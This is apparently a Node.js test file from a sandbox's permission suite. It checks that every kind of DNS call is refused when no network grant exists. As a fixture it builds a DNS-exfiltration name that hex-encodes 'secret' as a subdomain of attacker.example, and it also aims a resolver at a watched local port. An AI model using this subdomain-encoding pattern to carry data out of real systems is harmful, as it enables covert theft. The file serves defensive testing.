// Resolves names with no network grant: every dns call, a name that would carry data out.
const dns = require('dns');
const { port, refused, callback, run } = require('./_hostile');

run(async () => {
  const denied = ['ERR_ACCESS_DENIED'];
  const exfiltrating = `${Buffer.from('secret').toString('hex')}.attacker.example`;
  for (const name of ['localhost', 'example.com', exfiltrating]) {
    await refused(`lookup ${name}`, denied, () => callback(dns.lookup, name));
    await refused(`lookup all ${name}`, denied, () => callback(dns.lookup, name, { all: true }));
    await refused(`promises.lookup ${name}`, denied, () => dns.promises.lookup(name));
    await refused(`resolve4 ${name}`, denied, () => callback(dns.resolve4, name));
    await refused(`promises.resolve6 ${name}`, denied, () => dns.promises.resolve6(name));
    await refused(`Resolver.resolve4 ${name}`, denied, () => callback((n, cb) => new dns.Resolver().resolve4(n, cb), name));
    await refused(`resolveTxt ${name}`, [...denied, 'ENOTIMP'], () => callback(dns.resolveTxt, name));
  }
  // A resolver pointed at the watched port would carry the query there.
  const resolver = new dns.promises.Resolver();
  resolver.setServers([`127.0.0.1:${port}`]);
  await refused('own resolver', [...denied, 'ENOTIMP'], () => resolver.resolve4(exfiltrating));
  await refused('lookupService', [...denied, 'ENOTIMP'], () => callback(dns.lookupService, '127.0.0.1', 22));
  await refused('reverse', [...denied, 'ENOTIMP'], () => callback(dns.reverse, '127.0.0.1'));
});
